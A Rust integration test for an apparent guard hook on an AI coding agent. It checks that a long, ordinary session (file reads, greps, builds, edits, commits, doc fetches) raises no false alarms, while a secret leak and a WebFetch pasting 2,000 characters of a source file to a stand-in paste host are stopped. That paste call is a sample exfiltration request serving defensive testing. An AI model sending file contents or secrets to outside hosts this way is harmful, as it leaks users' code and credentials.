//! The false-alarm cost of a long, ordinary working session that holds a secret: every source
//! file of this project is read (real text, about 2 MB), and between the reads come the calls
//! normal work makes with what was read: searches and builds naming its identifiers, edits,
//! commits and pushes, documentation fetches and web searches for its identifiers, an issue
//! quoting one line. None of them may be questioned. The same session still stops the secret
//! and a whole file leaving.

mod common;
use common::*;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

/// The project's own sources, in a stable order.
fn project_sources() -> Vec<PathBuf> {
    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
        let mut entries: Vec<PathBuf> = std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
        entries.sort();
        for p in entries {
            if p.is_dir() {
                walk(&p, out);
            } else if p.extension().is_some_and(|e| e == "rs") {
                out.push(p);
            }
        }
    }
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let mut out = Vec::new();
    walk(&root.join("src"), &mut out);
    walk(&root.join("tests"), &mut out);
    out
}

/// Identifiers of 8 to 30 characters in `text` (function and type names, mostly).
fn identifiers(text: &str) -> Vec<&str> {
    let mut out: Vec<&str> = text
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        // Function and variable names (lowercase words joined by underscores): this project's
        // test data holds secret-shaped samples whose pieces a real session would not send.
        .filter(|w| (8..=30).contains(&w.len()) && w.chars().all(|c| c.is_ascii_lowercase() || c == '_'))
        .collect();
    out.sort_unstable();
    out.dedup();
    out
}

/// The calls ordinary work makes after reading `path` (shown to the agent as `/repo/...`).
fn work_after_reading(session: &str, repo_path: &str, text: &str, rng: &mut Rng) -> Vec<Value> {
    let ids = identifiers(text);
    if ids.is_empty() {
        return Vec::new();
    }
    let mut pick = || ids[rng.below(ids.len() as u64) as usize];
    let (a, b, c) = (pick(), pick(), pick());
    // A line that can sit inside the single quotes below (an apostrophe would end them and
    // leave its backticks a real command substitution).
    let line = text
        .lines()
        .map(str::trim)
        .find(|l| (30..90).contains(&l.len()) && !l.contains('\''))
        .unwrap_or("fn main() {}");
    let pre = |tool: &str, input: Value| payload(session, "PreToolUse", tool, input, None);
    vec![
        pre("Bash", json!({"command": format!("grep -rn '{a}' src/ tests/ | head -20")})),
        pre("Bash", json!({"command": format!("cargo test {b} -- --nocapture")})),
        pre("Edit", json!({"file_path": repo_path, "old_string": line, "new_string": format!("{line} // {c}")})),
        pre("Bash", json!({"command": format!("git add {repo_path} && git commit -m 'Handle {a} in {b}'")})),
        pre("Bash", json!({"command": "git push origin main"})),
        pre(
            "WebFetch",
            json!({"url": format!("https://docs.rs/regex/latest/regex/?search={c}"), "prompt": "How is it used?"}),
        ),
        pre("WebSearch", json!({"query": format!("rust {a} borrow checker error")})),
        pre(
            "Bash",
            json!({"command": format!("gh issue create --title '{b} misbehaves' --body 'Seen in {repo_path}: `{line}`'")}),
        ),
        pre("Bash", json!({"command": "curl -s https://api.github.com/repos/acme/app/pulls?state=open"})),
    ]
}

#[test]
fn a_long_ordinary_session_holding_a_secret_is_never_questioned() {
    let home = Home::new();
    let session = "long-ordinary-session";
    assert!(home.hook(&read_env(session)).stdout.is_empty());
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let mut rng = Rng(0x5EED_1234_ABCD_0001);
    let (mut read_bytes, mut calls, mut questioned) = (0usize, 0usize, Vec::new());
    let sources = project_sources();
    assert!(sources.len() > 50, "expected the project's sources, found {}", sources.len());
    for path in &sources {
        let text = std::fs::read_to_string(path).unwrap();
        let repo_path = format!("/repo/{}", path.strip_prefix(&root).unwrap().display());
        read_bytes += text.len();
        let read = payload(
            session,
            "PostToolUse",
            "Read",
            json!({"file_path": repo_path}),
            Some(json!({"type": "text", "file": {"filePath": repo_path, "content": text}})),
        );
        let run = home.hook(&read);
        assert!(run.stdout.is_empty() && run.stderr.is_empty(), "{repo_path}: {} {}", run.stdout, run.stderr);
        for call in work_after_reading(session, &repo_path, &text, &mut rng) {
            calls += 1;
            let run = home.hook(&call);
            assert_eq!(run.code, 0);
            if let Some((d, reason)) = decision(&run) {
                questioned.push(format!("{d}: {} {} -> {reason}", call["tool_name"], call["tool_input"]));
            }
        }
    }
    println!(
        "long session: {} files, {} KB read, {calls} ordinary calls, {} questioned",
        sources.len(),
        read_bytes / 1024,
        questioned.len()
    );
    assert!(read_bytes > 1_000_000, "a long session reads over 1 MB, read {read_bytes}");
    assert!(questioned.is_empty(), "false alarms ({} of {calls}):\n{}", questioned.len(), questioned.join("\n"));

    // The same session still guards: the secret, and a whole file, leaving.
    let run = home.hook(&leak(session));
    assert_eq!(decision(&run).map(|(d, _)| d).as_deref(), Some("deny"), "{}", run.stdout);
    let whole = std::fs::read_to_string(&sources[sources.len() / 2]).unwrap();
    let chunk: String = whole.chars().take(2_000).collect();
    let paste = payload(
        session,
        "PreToolUse",
        "WebFetch",
        json!({"url": format!("https://paste.example.net/new?text={}", chunk.replace(['\n', ' '], "+")), "prompt": "ok"}),
        None,
    );
    let run = home.hook(&paste);
    let d = decision(&run).map(|(d, _)| d);
    assert!(matches!(d.as_deref(), Some("ask") | Some("deny")), "a whole file left unquestioned: {}", run.stdout);
}
